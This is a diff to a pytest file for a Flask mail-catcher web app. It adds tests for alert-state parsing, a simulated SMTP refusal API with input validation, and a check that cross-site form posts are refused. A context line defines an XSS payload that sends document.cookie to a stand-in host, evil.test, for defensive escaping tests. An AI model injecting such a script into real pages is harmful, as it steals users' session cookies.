@@ -10,8 +10,9 @@ from typing import Any
 import pytest
 from flask.testing import FlaskClient
 from promontory_mailbox.metrics import Metrics
+from promontory_mailbox.refusal import Refusals
 from promontory_mailbox.store import Store, Summary
-from promontory_mailbox.web import ago, create_app
+from promontory_mailbox.web import ago, create_app, state_of
 
 SCRIPT = "<script>fetch('//evil.test/' + document.cookie)</script>"
 
@@ -29,7 +30,7 @@ def serving() -> list[bool]:
 
 @pytest.fixture
 def client(store: Store, serving: list[bool]) -> FlaskClient:
-    return create_app(store, Metrics(store), lambda: serving[0]).test_client()
+    return create_app(store, Metrics(store), Refusals(), lambda: serving[0]).test_client()
 
 
 def deliver(store: Store, subject: str = "hello", html: str | None = "<p>Hi</p>", text: str = "Hi") -> Summary:
@@ -241,3 +242,58 @@ def test_how_long_ago(seconds: int, said: str) -> None:
     now = datetime.now(UTC)
 
     assert ago(now - timedelta(seconds=seconds), now) == said
+
+
+@pytest.mark.parametrize(
+    ("subject", "state"),
+    [
+        ("[FIRING:3][critical][prod] HostDown host @ web1", "critical"),
+        ("[FIRING:12][warning] HostDown", "warning"),
+        ("[RESOLVED:3][critical][prod] HostDown host @ web1", "resolved"),
+        ("[FIRING:1][page] TheirAlert", ""),
+        ("Re: [FIRING:3][critical][prod] HostDown", ""),
+    ],
+)
+def test_the_state_of_an_alert_is_read_from_its_subject(subject: str, state: str) -> None:
+    assert state_of(subject) == state
+
+
+def test_mail_is_refused_until_it_is_taken_again(client: FlaskClient) -> None:
+    assert client.get("/api/refusal").get_json() == {"refusal": None}
+
+    begun = client.put("/api/refusal", json={"code": 451, "stage": "rcpt", "for_s": 30, "times": 2}).get_json()
+
+    assert begun == {"refusal": {"code": 451, "stage": "rcpt", "for_s": 30, "times": 2, "given": 0}}
+    assert client.delete("/api/refusal").get_json() == {"refusal": None}
+    assert client.get("/api/refusal").get_json() == {"refusal": None}
+
+
+@pytest.mark.parametrize(
+    ("wish", "said"),
+    [
+        ({}, "code is None, expected a whole number from 400 to 599"),
+        ({"code": 250}, "code is 250"),
+        ({"code": "451"}, "code is '451'"),
+        ({"code": True}, "code is True"),
+        ({"code": 451, "stage": "hello"}, "stage is 'hello', expected one of connect, mail, rcpt, data"),
+        ({"code": 451, "for_s": 0}, "for_s is 0, expected a whole number from 1 to 86400"),
+        ({"code": 451, "times": -1}, "times is -1"),
+        ({"code": 451, "minutes": 5}, "unknown keys ['minutes']"),
+        ([451], "expected a mapping with code, found list"),
+    ],
+    ids=str,
+)
+def test_a_wrong_wish_to_refuse_is_named(client: FlaskClient, wish: Any, said: str) -> None:
+    answer = client.put("/api/refusal", json=wish)
+
+    assert answer.status_code == 400
+    assert said in answer.get_json()["error"]
+    assert client.get("/api/refusal").get_json() == {"refusal": None}
+
+
+def test_a_form_of_a_foreign_page_cannot_stop_the_mail(client: FlaskClient) -> None:
+    """A browser sends forms to anybody without asking; JSON it does not."""
+    answer = client.put("/api/refusal", data='{"code": 451}', content_type="text/plain")
+
+    assert answer.status_code == 415
+    assert client.get("/api/refusal").get_json() == {"refusal": None}
